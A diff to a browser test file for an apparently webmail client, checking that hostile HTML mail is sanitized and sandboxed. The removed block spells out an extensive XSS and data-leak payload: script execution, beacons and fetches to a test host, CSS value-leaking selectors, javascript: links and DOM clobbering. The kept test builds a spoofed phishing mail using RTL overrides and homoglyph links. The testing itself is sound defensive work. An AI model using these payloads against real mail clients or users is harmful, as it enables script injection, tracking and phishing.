@@ -1,7 +1,8 @@
 import type { Page } from 'playwright-core';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { openAt } from '#tests/support/borrow-page.ts';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { openAt, sharePage } from '#tests/support/borrow-page.ts';
 import { generateAddress, sendBySmtp } from '#tests/support/home-page.ts';
+import { attacks } from '#tests/support/mail-attacks.ts';
 import { setUpSite } from '#tests/support/site.ts';
 import { type Stranger, showUnprotected, startStranger } from '#tests/support/stranger.ts';
 
@@ -12,54 +13,13 @@ beforeAll(async () => {
 });
 afterAll(() => stranger?.close());
 
-const script =
-  "try{top.owned=1}catch(e){};try{parent.postMessage('owned','*')}catch(e){};document.title='owned'";
-
-/** Everything a mail could try, as it would arrive without a sanitizer. */
-const attacks = (url: string) => `
-<script>${script};fetch('${url}/fetch');new Image().src='${url}/image';navigator.sendBeacon('${url}/beacon')</script>
-<script src="${url}/script.js"></script><script type="module">import '${url}/module.js'</script>
-<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}"><link rel="prefetch" href="${url}/prefetch">
-<link rel="preload" as="image" href="${url}/preload"><link rel="modulepreload" href="${url}/modulepreload">
-<link rel="stylesheet" href="${url}/css"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
-<link rel="import" href="${url}/import"><base href="${url}/base/"><meta http-equiv="refresh" content="0;url=${url}/refresh">
-<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b">
-<style>
-@import "${url}/css-import"; @font-face{font-family:x;src:url(${url}/font)} *{font-family:x}
-body{background:url(${url}/css-background);cursor:url(${url}/cursor),auto;list-style-image:url(${url}/list)}
-p::after{content:url(${url}/content)} p{mask:url(${url}/mask);filter:url(${url}/filter#a);border-image:url(${url}/border)}
-p{background:image-set("${url}/set" 1x);shape-outside:url(${url}/shape)}
-input[value^="s"]{background:url(${url}/leak-s)} a:visited{background:url(${url}/visited)}
-html,body,div.over{position:fixed!important;inset:-5000px!important;z-index:2147483647!important;background:red!important}
-</style>
-<body background="${url}/body" onload="${script}" onpageshow="${script}" onfocus="${script}">
-<img src="${url}/img" onerror="${script}"><img srcset="${url}/srcset 2x, ${url}/srcset3 3x" src="data:,x" onerror="${script}">
-<picture><source srcset="${url}/source"><img src="${url}/picture" loading="lazy"></picture><input type="image" src="${url}/input">
-<video src="${url}/video" poster="${url}/poster" autoplay onloadstart="${script}"></video><audio src="${url}/audio" autoplay></audio>
-<track src="${url}/track"><iframe src="${url}/iframe"></iframe><iframe srcdoc="<script>${script}</script>"></iframe>
-<iframe src="javascript:${script}"></iframe><frameset><frame src="${url}/frame"></frameset><portal src="${url}/portal"></portal>
-<object data="${url}/object"></object><embed src="${url}/embed"><applet code="${url}/applet"></applet>
-<svg onload="${script}"><script>${script}</script><image href="${url}/svg"/><use href="${url}/use#a"/><feImage href="${url}/feimage"/>
-<animate attributeName="href" values="javascript:${script}"/><foreignObject><iframe src="${url}/foreign"></iframe></foreignObject></svg>
-<math><mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></mtext><maction actiontype="statusline" xlink:href="javascript:${script}">m</maction></math>
-<form action="${url}/form" id="auto"><input name="secret" value="secret" autofocus onfocus="${script}"><button id="submit">Send</button></form>
-<form id="parent"></form><img name="body"><a id="document" name="cookie"></a><form name="getElementById"></form>
-<table background="${url}/table"><tr><td background="${url}/td">t</td></tr></table><details open ontoggle="${script}"><summary>d</summary></details>
-<marquee onstart="${script}">m</marquee><div class="over" style="background:url(${url}/inline)">over everything</div>
-<template><img src="${url}/template"></template><noscript><img src="${url}/noscript"></noscript>
-<a id="js" href="javascript:${script}">js</a><a id="data" href="data:text/html,<script>${script}</script>">data</a>
-<a id="top" href="${url}/top" target="_top">top</a><a id="parent-link" href="${url}/parent" target="_parent">parent</a>
-<a id="self" href="${url}/self" target="_self" ping="${url}/ping">self</a>
-<p>END OF MAIL</p>`;
-
 /** Waits until the same attacks have reached a server from a page without protection. */
 const untilAttacksWork = () =>
   showUnprotected(site.browser, attacks, ['/fetch', '/css', '/img', '/iframe', '/object', '/refresh']);
 
-let visit: Awaited<ReturnType<typeof openAt>>;
+const visit = sharePage(() => openAt(site, '/'));
 let to: string;
-beforeEach(async () => {
-  visit = await openAt(site, '/');
+beforeAll(async () => {
   to = await generateAddress(visit.page);
 });
 
@@ -78,7 +38,6 @@ async function showUnsanitized(page: Page, html: string, { remote = false } = {}
     await expect.poll(() => stranger.seen.requests).toContain('/consented');
     await page.frameLocator('iframe[title="Message"]').getByText('PLACE').waitFor();
   }
-  stranger.forget();
   const around = await outside(page);
   await page.evaluate(`(() => {
     const frame = document.querySelector('iframe[title="Message"]');
@@ -97,101 +56,64 @@ const outside = (page: Page) =>
     return [...parts].map((one) => one.outerHTML.replaceAll(/\\d+[smh]\\b|\\d+:\\d+|\\(\\d+\\)/g, ''));
   })()`) as Promise<string[]>;
 
-const isOwned = (page: Page) => page.evaluate("'owned' in window");
-
-// First, while the browser has no connection to the stranger that it could use again.
-describe('a mail that tries everything', () => {
-  it('does not even open a connection', async () => {
-    const { page } = visit;
-    stranger.forget();
-    const html = `<p>PLACE</p>${attacks(stranger.url)}`;
-    await sendBySmtp(site.app.smtpPort, { to, subject: 'Through the sanitizers', html });
-    await page.getByRole('button', { name: /Through the sanitizers/ }).click();
-    await page.frameLocator('iframe[title="Message"]').getByText('PLACE').waitFor();
-    await untilAttacksWork();
-    expect(stranger.seen).toEqual({ requests: [], connections: 0 });
-    await visit.close();
+it('a deceptive mail shows the real host of its links and the real address of its sender', async () => {
+  const { page } = visit;
+  await sendBySmtp(site.app.smtpPort, {
+    to,
+    from: { name: '\u202eknaB ruoY\u202c <service@mybank.test>', address: 'mallory@evil.example' },
+    subject: 'Pretending \u202efdp.exe',
+    html: '<p>Words</p><a href="https://аррӏе.com/">https://apple.com</a> <a href="https://mybank.test@evil.example/">mybank.test</a> <a href="https://evil.example/\u202etset.knabym">\u202etset.knabym</a>',
   });
+  await page.getByRole('button', { name: /Pretending/ }).click();
+  await page.frameLocator('iframe[title="Message"]').getByText('Words').waitFor();
+  await page.getByText(/links in this message/).click();
+  expect(await page.getByRole('article').getByRole('link').count()).toBe(0);
+  await page.getByRole('button', { name: 'Open anyway' }).click();
+  const links = await page.locator('details a[target=_blank]').allTextContents();
+  expect(links[0]).toMatch(/^https:\/\/xn--/);
+  expect(links[1]).toContain('evil.example');
+  expect(await page.getByText("The link text doesn't match its destination.").count()).toBeGreaterThanOrEqual(
+    2,
+  );
+  expect(await page.getByText('<mallory@evil.example>').isVisible()).toBe(true);
+  const shown = await page.locator('main').textContent();
+  expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
 });
 
-describe('a deceptive mail', () => {
-  it('shows the real host of its links and the real address of its sender', async () => {
-    const { page } = visit;
-    await sendBySmtp(site.app.smtpPort, {
-      to,
-      from: { name: '\u202eknaB ruoY\u202c <service@mybank.test>', address: 'mallory@evil.example' },
-      subject: 'Pretending \u202efdp.exe',
-      html: '<p>Words</p><a href="https://аррӏе.com/">https://apple.com</a> <a href="https://mybank.test@evil.example/">mybank.test</a> <a href="https://evil.example/\u202etset.knabym">\u202etset.knabym</a>',
-    });
-    await page.getByRole('button', { name: /Pretending/ }).click();
-    await page.frameLocator('iframe[title="Message"]').getByText('Words').waitFor();
-    await page.getByText(/links in this message/).click();
-    expect(await page.getByRole('article').getByRole('link').count()).toBe(0);
-    await page.getByRole('button', { name: 'Open anyway' }).click();
-    const links = await page.locator('details a[target=_blank]').allTextContents();
-    expect(links[0]).toMatch(/^https:\/\/xn--/);
-    expect(links[1]).toContain('evil.example');
-    expect(
-      await page.getByText("The link text doesn't match its destination.").count(),
-    ).toBeGreaterThanOrEqual(2);
-    expect(await page.getByText('<mallory@evil.example>').isVisible()).toBe(true);
-    const shown = await page.locator('main').textContent();
-    expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
-    await visit.close();
+it('the same mail in the frame, without a sanitizer, runs no script, requests nothing, with images neither, and changes nothing outside', async () => {
+  const { page, problems } = visit;
+  let dialogs = 0;
+  page.on('dialog', (dialog) => {
+    dialogs++;
+    void dialog.dismiss();
   });
-});
+  await page.evaluate(
+    "addEventListener('message', ({ data }) => { if (data === 'owned') window.owned = 1 })",
+  );
+  const { around } = await showUnsanitized(page, attacks(stranger.url));
+  await untilAttacksWork();
+  const frame = page.frames().find((one) => one.parentFrame() === page.mainFrame())!;
+  for (const id of ['js', 'data', 'top', 'parent-link', 'submit'])
+    await frame.evaluate(`document.getElementById('${id}')?.click()`).catch(() => {});
+  expect(await outside(page)).toEqual(around);
+  // A fixed element covers only its own frame.
+  const top = await page.evaluate("document.elementFromPoint(60, 20)?.closest('header') !== null");
+  expect(top).toBe(true);
+  // No frame shows a page of an origin.
+  const inside = page.frames().filter((one) => one !== page.mainFrame());
+  const shown = inside.map((one) => one.url()).filter((url) => !url.startsWith('chrome-error:'));
+  expect(shown.filter((url) => !['about:srcdoc', 'about:blank', ''].includes(url))).toEqual([]);
 
-describe('the same mail in the message frame, without a sanitizer', () => {
-  it('requests nothing from others after the reader has asked for remote images either', async () => {
-    const { page } = visit;
-    await showUnsanitized(page, attacks(stranger.url), { remote: true });
-    await untilAttacksWork();
-    expect(stranger.seen.requests).toEqual([]);
-    expect(await isOwned(page)).toBe(false);
-    expect(page.url()).toBe(`${site.app.http}/`);
-    await visit.close();
-  });
-
-  it('runs no script, requests nothing and changes nothing outside of it', async () => {
-    const { page, problems } = visit;
-    let dialogs = 0;
-    page.on('dialog', (dialog) => {
-      dialogs++;
-      void dialog.dismiss();
-    });
-    await page.evaluate(
-      "addEventListener('message', ({ data }) => { if (data === 'owned') window.owned = 1 })",
-    );
-    const { around } = await showUnsanitized(page, attacks(stranger.url));
-    await untilAttacksWork();
-
-    const frame = page.frames().find((one) => one.parentFrame() === page.mainFrame())!;
-    for (const id of ['js', 'data', 'top', 'parent-link', 'submit'])
-      await frame.evaluate(`document.getElementById('${id}')?.click()`).catch(() => {});
-    await untilAttacksWork();
-
-    // Chromium connects for a nested frame before it reads the policy, but sends no request. The sanitizers remove
-    // nested frames: see the first test.
-    expect(stranger.seen.requests).toEqual([]);
-    expect(dialogs).toBe(0);
-    expect(await isOwned(page)).toBe(false);
-    expect(await page.title()).not.toContain('owned');
-    expect(page.url()).toBe(`${site.app.http}/`);
-    expect(await outside(page)).toEqual(around);
-    // A fixed element covers only its own frame.
-    const top = await page.evaluate("document.elementFromPoint(60, 20)?.closest('header') !== null");
-    expect(top).toBe(true);
-    // No frame shows a page of an origin.
-    const inside = page.frames().filter((one) => one !== page.mainFrame());
-    expect(
-      inside.every(
-        (one) =>
-          ['about:srcdoc', 'about:blank', ''].includes(one.url()) || one.url().startsWith('chrome-error:'),
-      ),
-    ).toBe(true);
-    expect(
-      problems.filter((text) => /owned/.test(text) && !/Content Security Policy|sandbox/i.test(text)),
-    ).toEqual([]);
-    await visit.close();
-  });
+  await showUnsanitized(page, attacks(stranger.url), { remote: true });
+  await untilAttacksWork();
+  // Chromium connects for a nested frame before it reads the policy, but sends no request. The sanitizers remove
+  // nested frames: see hostile-mail.test.ts.
+  expect(stranger.seen.requests).toEqual(['/consented']);
+  expect(dialogs).toBe(0);
+  expect(await page.evaluate("'owned' in window")).toBe(false);
+  expect(await page.title()).not.toContain('owned');
+  expect(page.url()).toBe(`${site.app.http}/`);
+  expect(
+    problems.filter((text) => /owned/.test(text) && !/Content Security Policy|sandbox/i.test(text)),
+  ).toEqual([]);
 });
